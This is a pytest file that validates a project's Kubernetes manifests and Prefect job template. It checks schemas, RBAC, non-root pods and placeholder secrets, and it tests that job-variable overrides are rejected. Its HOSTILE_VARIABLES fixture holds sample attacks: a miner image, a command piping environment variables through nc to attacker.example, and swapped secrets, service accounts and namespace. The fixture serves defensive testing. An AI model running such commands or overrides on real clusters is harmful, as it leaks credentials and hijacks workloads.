"""The Kubernetes manifests (k8s/) and the work pool's job template, validated without a cluster.

Built-in kinds are checked against Kubernetes' OpenAPI schemas shipped by kubernetes-validate in
strict mode (unknown fields fail); KEDA's kinds against tests/deploy/schemas/keda-v1alpha1.json. The
Job a flow run gets is rendered by prefect-kubernetes itself from the template and prefect.yaml.
"""

from __future__ import annotations

import asyncio
import copy
import json
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import jsonschema
import kubernetes_validate
import pytest
from deploy_support import (
    IMAGE_REPOSITORY,
    REPO,
    SCHEMAS,
    check_command,
    commands_of,
    final_workdir,
    load_yaml_docs,
    parse_prefect_cli,
    project_version,
)
from kubernetes_validate.utils import latest_version

K8S = REPO / "k8s"
NAMESPACE = "clientes-ingest"
K8S_VERSION = latest_version()
TEMPLATE_PATH = REPO / "deployments/k8s-base-job-template.json"
WORKLOAD_KINDS = {"Deployment", "StatefulSet", "Job"}
DB_ACCESS_LABEL = ("clientes-ingest/db-access", "true")


def _manifest_files() -> list[Path]:
    return sorted(p for p in K8S.glob("*.yaml") if p.name != "kustomization.yaml")


def _objects() -> list[tuple[str, dict[str, Any]]]:
    return [(path.name, doc) for path in _manifest_files() for doc in load_yaml_docs(path)]


OBJECTS = _objects()
BUILTIN = [(f, o) for f, o in OBJECTS if not o["apiVersion"].startswith("keda.sh/")]
KEDA = [(f, o) for f, o in OBJECTS if o["apiVersion"].startswith("keda.sh/")]


def _ids(objects: list[tuple[str, dict[str, Any]]]) -> list[str]:
    return [f"{f}:{o['kind']}/{o['metadata']['name']}" for f, o in objects]


def _find(kind: str, name: str) -> dict[str, Any]:
    matches = [o for _, o in OBJECTS if o["kind"] == kind and o["metadata"]["name"] == name]
    assert len(matches) == 1, f"expected one {kind}/{name} in k8s/, found {len(matches)}"
    return matches[0]


def _pod_spec(obj: dict[str, Any]) -> dict[str, Any]:
    return obj["spec"]["template"]["spec"]


def _containers(obj: dict[str, Any]) -> list[dict[str, Any]]:
    spec = _pod_spec(obj)
    return [*spec.get("initContainers", []), *spec["containers"]]


WORKLOADS = [(f, o) for f, o in OBJECTS if o["kind"] in WORKLOAD_KINDS]


def _template() -> dict[str, Any]:
    return json.loads(TEMPLATE_PATH.read_text(encoding="utf-8"))


# ----------------------------------------------------------------------------------- kustomization


def test_kustomization_lists_every_manifest_once() -> None:
    (kustomization,) = load_yaml_docs(K8S / "kustomization.yaml")
    resources = kustomization["resources"]
    assert len(resources) == len(set(resources)), "a resource is listed twice"
    assert sorted(resources) == [p.name for p in _manifest_files() if p.name != "secret.example.yaml"]
    assert kustomization["namespace"] == NAMESPACE
    assert not [p for p in K8S.iterdir() if p.suffix not in {".yaml"}], "stray files in k8s/"


def test_kustomization_never_applies_the_example_secrets() -> None:
    # `kubectl apply -k` would reset real Secrets to CHANGE-ME (and the API would accept that token).
    (kustomization,) = load_yaml_docs(K8S / "kustomization.yaml")
    listed = [*kustomization.get("resources", []), *kustomization.get("components", [])]
    applied = [o for name in listed for o in load_yaml_docs(K8S / name)]
    assert not [o for o in applied if o["kind"] == "Secret"]
    assert "secretGenerator" not in kustomization


def test_kustomization_pins_the_project_image() -> None:
    (kustomization,) = load_yaml_docs(K8S / "kustomization.yaml")
    assert kustomization["images"] == [{"name": IMAGE_REPOSITORY, "newTag": project_version()}]


# ---------------------------------------------------------------------------------------- schemas


@pytest.mark.parametrize(("filename", "obj"), BUILTIN, ids=_ids(BUILTIN))
def test_validates_against_kubernetes_schema(filename: str, obj: dict[str, Any]) -> None:
    kubernetes_validate.validate(obj, K8S_VERSION, strict=True)


def test_strict_validation_rejects_unknown_fields() -> None:
    # Guards the test above: strict mode must really fail on a misplaced field.
    deployment = copy.deepcopy(_find("Deployment", "clientes-ingest-api"))
    _pod_spec(deployment)["containers"][0]["livenesProbe"] = {}
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(deployment, K8S_VERSION, strict=True)


def _keda_validator() -> jsonschema.Draft7Validator:
    schema = json.loads((SCHEMAS / "keda-v1alpha1.json").read_text(encoding="utf-8"))
    jsonschema.Draft7Validator.check_schema(schema)
    return jsonschema.Draft7Validator(schema)


@pytest.mark.parametrize(("filename", "obj"), KEDA, ids=_ids(KEDA))
def test_keda_objects_validate(filename: str, obj: dict[str, Any]) -> None:
    _keda_validator().validate(obj)


def test_keda_schema_rejects_mistakes() -> None:
    validator = _keda_validator()
    scaled = copy.deepcopy(_find("ScaledObject", "clientes-ingest-trigger"))
    scaled["spec"]["minReplicas"] = 1  # HPA's spelling, not KEDA's
    assert not validator.is_valid(scaled)
    scaled = copy.deepcopy(_find("ScaledObject", "clientes-ingest-trigger"))
    del scaled["spec"]["triggers"][0]["metadata"]["awsRegion"]
    assert not validator.is_valid(scaled)
    scaled["spec"]["triggers"][0]["metadata"] = {"queueURL": "q", "awsRegion": "us-east-1", "queueLength": 5}
    assert not validator.is_valid(scaled), "trigger metadata values are strings"


def test_scaled_object_targets_the_trigger_with_its_auth() -> None:
    (scaled,) = [o for _, o in KEDA if o["kind"] == "ScaledObject"]
    target = scaled["spec"]["scaleTargetRef"]
    assert target["kind"] == "Deployment"
    _find("Deployment", target["name"])
    assert target["name"] == "clientes-ingest-trigger"
    (trigger,) = scaled["spec"]["triggers"]
    assert trigger["type"] == "aws-sqs-queue"
    configmap = _find("ConfigMap", "clientes-ingest-config")["data"]
    assert trigger["metadata"]["queueURL"] == configmap["CLIENTES_SQS_QUEUE_NAME"]
    assert trigger["metadata"]["awsRegion"] == configmap["CLIENTES_AWS_REGION"]
    auth = _find("TriggerAuthentication", trigger["authenticationRef"]["name"])
    assert {r["parameter"] for r in auth["spec"]["secretTargetRef"]} == {"awsAccessKeyID", "awsSecretAccessKey"}
    for ref in auth["spec"]["secretTargetRef"]:
        assert ref["key"] in _find("Secret", ref["name"])["stringData"]


# ------------------------------------------------------------------------------ cross-references


@pytest.mark.parametrize(("filename", "obj"), OBJECTS, ids=_ids(OBJECTS))
def test_everything_in_the_namespace(filename: str, obj: dict[str, Any]) -> None:
    if obj["kind"] == "Namespace":
        assert obj["metadata"]["name"] == NAMESPACE
    else:
        assert obj["metadata"].get("namespace") == NAMESPACE


def _env_refs(container: dict[str, Any]) -> list[tuple[str, str, str | None]]:
    """(kind, name, key) of every ConfigMap/Secret a container reads."""
    refs: list[tuple[str, str, str | None]] = []
    for source in container.get("envFrom", []):
        for field, kind in (("configMapRef", "ConfigMap"), ("secretRef", "Secret")):
            if field in source:
                refs.append((kind, source[field]["name"], None))
    for var in container.get("env", []):
        value_from = var.get("valueFrom", {})
        for field, kind in (("configMapKeyRef", "ConfigMap"), ("secretKeyRef", "Secret")):
            if field in value_from:
                refs.append((kind, value_from[field]["name"], value_from[field]["key"]))
    return refs


@pytest.mark.parametrize(("filename", "obj"), WORKLOADS, ids=_ids(WORKLOADS))
def test_env_references_exist(filename: str, obj: dict[str, Any]) -> None:
    for container in _containers(obj):
        for kind, name, key in _env_refs(container):
            target = _find(kind, name)
            if key is not None:
                assert key in target.get("data", {}) | target.get("stringData", {}), f"{kind}/{name} lacks {key}"


@pytest.mark.parametrize(("filename", "obj"), WORKLOADS, ids=_ids(WORKLOADS))
def test_service_accounts_exist(filename: str, obj: dict[str, Any]) -> None:
    name = _pod_spec(obj).get("serviceAccountName")
    if name:
        _find("ServiceAccount", name)


def test_services_select_pods_and_name_their_ports() -> None:
    for _, service in [(f, o) for f, o in OBJECTS if o["kind"] == "Service"]:
        selector = service["spec"]["selector"]
        backends = [w for _, w in WORKLOADS if selector.items() <= w["spec"]["template"]["metadata"]["labels"].items()]
        assert backends, f"Service/{service['metadata']['name']} selects no pod"
        ports = {p["name"] for w in backends for c in _containers(w) for p in c.get("ports", [])}
        for port in service["spec"]["ports"]:
            assert port["targetPort"] in ports, f"Service/{service['metadata']['name']}: no port {port['targetPort']}"


def test_project_images_use_the_pinned_tag() -> None:
    images = {c["image"] for _, w in WORKLOADS for c in _containers(w)}
    ours = {i for i in images if i.startswith(IMAGE_REPOSITORY)}
    assert ours == {f"{IMAGE_REPOSITORY}:{project_version()}"}
    assert not [i for i in images if ":" not in i or i.endswith(":latest")], "unpinned image"


# --------------------------------------------------------------------------------------- security


@pytest.mark.parametrize(("filename", "obj"), WORKLOADS, ids=_ids(WORKLOADS))
def test_pods_run_as_non_root_with_resources(filename: str, obj: dict[str, Any]) -> None:
    pod_context = _pod_spec(obj).get("securityContext", {})
    assert pod_context.get("seccompProfile", {}).get("type") == "RuntimeDefault"
    for container in _containers(obj):
        context = {**pod_context, **container.get("securityContext", {})}
        assert context.get("runAsNonRoot") is True, container["name"]
        assert context.get("runAsUser", 1) != 0, container["name"]
        assert context.get("allowPrivilegeEscalation") is False, container["name"]
        assert container["securityContext"]["capabilities"]["drop"] == ["ALL"], container["name"]
        resources = container["resources"]
        for bound in ("requests", "limits"):
            assert set(resources[bound]) >= {"cpu", "memory"}, f"{container['name']}: {bound}"


def test_secret_example_holds_placeholders_only() -> None:
    secrets = [o for f, o in OBJECTS if o["kind"] == "Secret"]
    assert secrets and all(f == "secret.example.yaml" for f, o in OBJECTS if o["kind"] == "Secret")
    for secret in secrets:
        assert "data" not in secret, "base64 data hides what is committed: use stringData placeholders"
        for key, value in secret["stringData"].items():
            assert "CHANGE-ME" in value, f"Secret/{secret['metadata']['name']}.{key} is not a placeholder"
            if "://" in value:
                assert urlsplit(value).password == "CHANGE-ME", f"{key}: the URL's password must be the placeholder"


def test_no_secret_literals_outside_secrets() -> None:
    for _, obj in WORKLOADS:
        for container in _containers(obj):
            for var in container.get("env", []):
                if any(word in var["name"] for word in ("PASSWORD", "SECRET", "TOKEN", "DB_URL")):
                    assert "value" not in var, f"{var['name']} must come from a Secret"


def test_worker_rbac_is_limited_to_its_namespace_jobs_and_pods() -> None:
    assert not [o for _, o in OBJECTS if o["kind"] in {"ClusterRole", "ClusterRoleBinding"}]
    role = _find("Role", "prefect-worker")
    granted = {(group, res) for rule in role["rules"] for group in rule["apiGroups"] for res in rule["resources"]}
    assert granted == {("batch", "jobs"), ("", "pods"), ("", "pods/log"), ("", "events")}
    read_only = {"get", "list", "watch"}
    for rule in role["rules"]:
        if rule["resources"] != ["jobs"]:
            assert set(rule["verbs"]) <= read_only
    binding = _find("RoleBinding", "prefect-worker")
    assert binding["roleRef"] == {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "prefect-worker"}
    worker = _find("Deployment", "prefect-worker")
    assert binding["subjects"] == [
        {"kind": "ServiceAccount", "name": _pod_spec(worker)["serviceAccountName"], "namespace": NAMESPACE}
    ]


def test_flow_run_service_account_has_no_api_token() -> None:
    account = _find("ServiceAccount", "clientes-ingest-flows")
    assert account["automountServiceAccountToken"] is False


def test_mssql_statefulset_keeps_data_on_a_claim() -> None:
    mssql = _find("StatefulSet", "mssql")
    (claim,) = mssql["spec"]["volumeClaimTemplates"]
    mounts = {m["name"]: m["mountPath"] for m in _pod_spec(mssql)["containers"][0]["volumeMounts"]}
    assert mounts[claim["metadata"]["name"]] == "/var/opt/mssql"
    assert _find("Service", mssql["spec"]["serviceName"])["spec"]["clusterIP"] == "None"


# ------------------------------------------------------------------------------ services, probes


def test_api_probes() -> None:
    (container,) = _pod_spec(_find("Deployment", "clientes-ingest-api"))["containers"]
    assert container["command"] == ["clientes-ingest-api"]
    assert container["livenessProbe"]["httpGet"]["path"] == "/health"
    assert container["readinessProbe"]["httpGet"]["path"] == "/ready"
    assert [p["containerPort"] for p in container["ports"]] == [8000]


def test_trigger_health_port_matches_its_setting() -> None:
    (container,) = _pod_spec(_find("Deployment", "clientes-ingest-trigger"))["containers"]
    port = int(_find("ConfigMap", "clientes-ingest-config")["data"]["CLIENTES_TRIGGER_PORT"])
    assert [p["containerPort"] for p in container["ports"]] == [port]
    assert container["livenessProbe"]["httpGet"]["path"] == "/health"


def _in_repo(path_in_image: str) -> Path:
    workdir = final_workdir()
    assert path_in_image.startswith(workdir + "/"), path_in_image
    return REPO / path_in_image[len(workdir) + 1 :]


def test_worker_command_is_a_valid_prefect_command() -> None:
    (container,) = _pod_spec(_find("Deployment", "prefect-worker"))["containers"]
    function, args = parse_prefect_cli(container["command"])
    assert function == "prefect.cli.worker.start"
    assert args["work_pool_name"] == "kubernetes-pool"
    assert args["worker_type"] == "kubernetes"
    assert args["with_healthcheck"] is True
    assert _in_repo(str(args["base_job_template"])) == TEMPLATE_PATH
    env = {v["name"]: v.get("value") for v in container["env"]}
    assert env["PREFECT_INTEGRATIONS_KUBERNETES_OBSERVER_NAMESPACES"] == NAMESPACE
    assert container["livenessProbe"]["httpGet"]["port"] == "health"
    assert [p["containerPort"] for p in container["ports"]] == [int(env["PREFECT_WORKER_WEBSERVER_PORT"])]


def test_deploy_job_registers_pool_blocks_and_k8s_deployment() -> None:
    (container,) = _pod_spec(_find("Job", "prefect-deploy"))["containers"]
    commands = commands_of(container["command"])
    resolved = [check_command(argv) for argv in commands]
    assert resolved == ["prefect.cli.work_pool.create", "cmd_blocks_register", "cmd_automations_apply",
                        "prefect.cli.deploy._commands.deploy"]
    _, create = parse_prefect_cli(commands[0])
    assert (create["name"], create["type"], create["overwrite"]) == ("kubernetes-pool", "kubernetes", True)
    assert REPO / str(create["base_job_template"]) == TEMPLATE_PATH  # relative to workingDir
    assert container["workingDir"] == final_workdir()
    _, deploy = parse_prefect_cli(commands[3])
    assert deploy["names"] == ["ingest-clientes/k8s", "recover-abandoned-jobs/k8s", "clientes-snapshot-ready/k8s",
                               "purge-old-jobs/k8s"]


def test_trigger_starts_runs_of_the_registered_deployment() -> None:
    (container,) = _pod_spec(_find("Job", "prefect-deploy"))["containers"]
    registered, _recovery, _downstream, _purge = parse_prefect_cli(commands_of(container["command"])[-1])[1]["names"]
    assert _find("ConfigMap", "clientes-ingest-config")["data"]["CLIENTES_DEPLOYMENT"] == registered


def test_schema_job_applies_the_mssql_schema() -> None:
    from deploy_support import parse_clientes_cli

    job = _find("Job", "clientes-ingest-schema")
    (container,) = _pod_spec(job)["containers"]
    args = parse_clientes_cli(container["command"])
    assert (args.func.__name__, args.dialect, args.apply, args.db) == ("cmd_schema", "mssql", True, None)
    # Without --db the command reads CLIENTES_DB_URL: the owner login's URL (DDL), from SQL Server's Secret.
    assert ("Secret", "clientes-ingest-mssql", "CLIENTES_SCHEMA_DB_URL") in _env_refs(container)


# ------------------------------------------------------------------------------- job template


def test_job_template_declares_every_variable_it_uses() -> None:
    from prefect.server.schemas.actions import validate_base_job_template

    validate_base_job_template(_template())  # what the server checks when the pool is created


def test_job_template_defaults_match_the_brief() -> None:
    variables = _template()["variables"]["properties"]
    defaults = {name: spec.get("default") for name, spec in variables.items()}
    # The brief's limits; the memory request covers a flow-run pod's measured ~205 MiB (docs/scaling.md).
    assert defaults["cpu_request"] == "100m" and defaults["memory_request"] == "224Mi"
    assert defaults["cpu_limit"] == "200m" and defaults["memory_limit"] == "256Mi"
    spec = _template()["job_configuration"]["job_manifest"]["spec"]
    assert spec["backoffLimit"] == 0, "Prefect does the retries"
    assert (spec["completions"], spec["parallelism"]) == (1, 1)
    assert not {"completions", "parallelism"} & set(spec["template"]["spec"])


# What a run may vary; everything that decides what runs, as whom and with which secrets is fixed.
RUN_VARIABLES = {"name", "cpu_request", "cpu_limit", "memory_request", "memory_limit", "finished_job_ttl",
                 "job_watch_timeout_seconds", "pod_watch_timeout_seconds", "stream_output"}
# Overrides a caller of the Prefect API could try (a deployment's or a run's job_variables).
HOSTILE_VARIABLES: dict[str, Any] = {
    "image": "attacker.example/miner:1.0",
    "command": "sh -c 'env | nc attacker.example 80'",
    "env": {"PYTHONPATH": "/tmp", "CLIENTES_S3_BUCKET": "attacker-bucket"},
    "service_account_name": "prefect-worker",
    "env_from_secret": "clientes-ingest-mssql",
    "env_from_config_map": "other-config",
    "namespace": "kube-system",
    "labels": {"app.kubernetes.io/name": "prefect-server"},
    "annotations": {"vault.hashicorp.com/agent-inject": "true"},
    "image_pull_policy": "Always",
    "cluster_config": {"config": {}, "context_name": "other"},
}


def test_job_template_fixes_image_command_env_identity_and_secrets() -> None:
    configuration = _template()["job_configuration"]
    assert set(_template()["variables"]["properties"]) == RUN_VARIABLES
    assert _template()["variables"]["additionalProperties"] is False
    assert configuration["namespace"] == NAMESPACE
    assert not {"command", "env", "labels", "annotations", "cluster_config"} & set(configuration)
    pod = configuration["job_manifest"]["spec"]["template"]["spec"]
    assert pod["serviceAccountName"] == "clientes-ingest-flows"
    (container,) = pod["containers"]
    assert container["image"] == f"{IMAGE_REPOSITORY}:{project_version()}"
    assert container["args"] == ["prefect", "flow-run", "execute"]
    assert "env" not in container, "the worker adds Prefect's run env; nothing else may come from variables"
    assert container["envFrom"] == [{"configMapRef": {"name": "clientes-ingest-config"}},
                                    {"secretRef": {"name": "clientes-ingest-secrets"}}]
    text = json.dumps(configuration)
    assert not [name for name in HOSTILE_VARIABLES if "{{ " + name + " }}" in text]


def _validate_job_variables(values: dict[str, Any]) -> None:
    # What the Prefect server runs on deployment create/update and on every run of a deployment
    # (prefect.server.api.validation._validate_work_pool_job_variables): a failure is a 422.
    from prefect.utilities.schema_tools.validation import validate

    validate(values, _template()["variables"], raise_on_error=True, preprocess=True, ignore_required=False,
             allow_none_with_default=True)


@pytest.mark.parametrize("name", sorted(HOSTILE_VARIABLES))
def test_prefect_server_refuses_a_deployment_or_run_that_overrides(name: str) -> None:
    from prefect.utilities.schema_tools.validation import ValidationError

    with pytest.raises(ValidationError, match="Additional properties are not allowed"):
        _validate_job_variables({name: HOSTILE_VARIABLES[name]})


def test_prefect_server_accepts_what_a_run_may_vary(deployments: dict[str, dict[str, Any]]) -> None:
    for name in ("ingest-clientes/k8s", "recover-abandoned-jobs/k8s", "clientes-snapshot-ready/k8s",
                 "purge-old-jobs/k8s"):
        _validate_job_variables(deployments[name]["work_pool"]["job_variables"])
    _validate_job_variables({"memory_limit": "512Mi", "cpu_limit": "500m", "finished_job_ttl": 600})


class _NoApiClient:
    """Stands in for the Prefect client: rendering our template must not need the API."""

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"rendering the job template called the Prefect API ({name})")


def _render(template: dict[str, Any], values: dict[str, Any], flow_run: Any = None) -> dict[str, Any]:
    from prefect.client.schemas.objects import FlowRun
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    configuration = asyncio.run(
        KubernetesWorkerJobConfiguration.from_template_and_values(template, values, client=_NoApiClient())
    )
    flow_run = flow_run or FlowRun(id=uuid.uuid4(), name="daring-otter", flow_id=uuid.uuid4())
    configuration.prepare_for_flow_run(flow_run=flow_run)
    return configuration.job_manifest


def test_overrides_that_reach_the_worker_change_nothing() -> None:
    # Defence in depth: were the server's check bypassed (the pool's variables loosened in the UI), the
    # worker still renders the same Job from the fixed template.
    from prefect.client.schemas.objects import FlowRun

    run = FlowRun(id=uuid.uuid4(), name="daring-otter", flow_id=uuid.uuid4())
    assert _render(_template(), HOSTILE_VARIABLES, run) == _render(_template(), {}, run)
    bigger = _render(_template(), {"memory_limit": "512Mi"}, run)  # a declared variable still applies
    assert bigger["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"] == "512Mi"


@pytest.fixture(scope="module")
def rendered_job(deployments: dict[str, dict[str, Any]]) -> dict[str, Any]:
    return _render(_template(), deployments["ingest-clientes/k8s"]["work_pool"]["job_variables"])


def test_rendered_job_is_a_valid_kubernetes_job(rendered_job: dict[str, Any]) -> None:
    kubernetes_validate.validate(rendered_job, K8S_VERSION, strict=True)


def test_rendered_job_carries_the_deployment_settings(rendered_job: dict[str, Any]) -> None:
    assert rendered_job["metadata"]["namespace"] == NAMESPACE
    assert rendered_job["spec"]["backoffLimit"] == 0
    pod = rendered_job["spec"]["template"]["spec"]
    assert pod["serviceAccountName"] == "clientes-ingest-flows"
    assert pod["securityContext"]["runAsNonRoot"] is True
    (container,) = pod["containers"]
    assert container["image"] == f"{IMAGE_REPOSITORY}:{project_version()}"
    assert container["args"] == ["prefect", "flow-run", "execute"]
    assert container["resources"] == {
        "requests": {"cpu": "100m", "memory": "224Mi"},
        "limits": {"cpu": "200m", "memory": "256Mi"},
    }
    assert {"secretRef": {"name": "clientes-ingest-secrets"}} in container["envFrom"]
    assert {"configMapRef": {"name": "clientes-ingest-config"}} in container["envFrom"]
    env = {v["name"]: v.get("value") for v in container["env"]}
    assert "PREFECT__FLOW_RUN_ID" in env
    # With backoffLimit 0 an evicted pod's run is rescheduled by Prefect, not retried by Kubernetes.
    assert env["PREFECT_FLOW_RUN_EXECUTE_SIGTERM_BEHAVIOR"] == "reschedule"
    assert not [name for name in env if "SECRET" in name or "PASSWORD" in name]
    labels = rendered_job["spec"]["template"]["metadata"]["labels"]
    assert labels[DB_ACCESS_LABEL[0]] == DB_ACCESS_LABEL[1]
    assert "prefect.io/flow-run-id" in labels


def test_template_defaults_alone_render_the_same_pod_settings() -> None:
    # A run started without job variables (e.g. from the UI with an edited deployment) keeps the limits.
    pod = _render(_template(), {})["spec"]["template"]["spec"]
    assert pod["containers"][0]["resources"]["limits"] == {"cpu": "200m", "memory": "256Mi"}
    assert pod["serviceAccountName"] == "clientes-ingest-flows"


def test_stock_template_is_what_we_fixed() -> None:
    # prefect-kubernetes' default puts completions/parallelism in the pod spec; strict validation
    # rejects that, which is why deployments/k8s-base-job-template.json moves them to the Job spec.
    from prefect_kubernetes.worker import KubernetesWorker

    stock = KubernetesWorker.get_default_base_job_template()
    job = _render(stock, {"image": f"{IMAGE_REPOSITORY}:{project_version()}"})
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(job, K8S_VERSION, strict=True)
    for field in ("completions", "parallelism"):
        del job["spec"]["template"]["spec"][field]
    kubernetes_validate.validate(job, K8S_VERSION, strict=True)
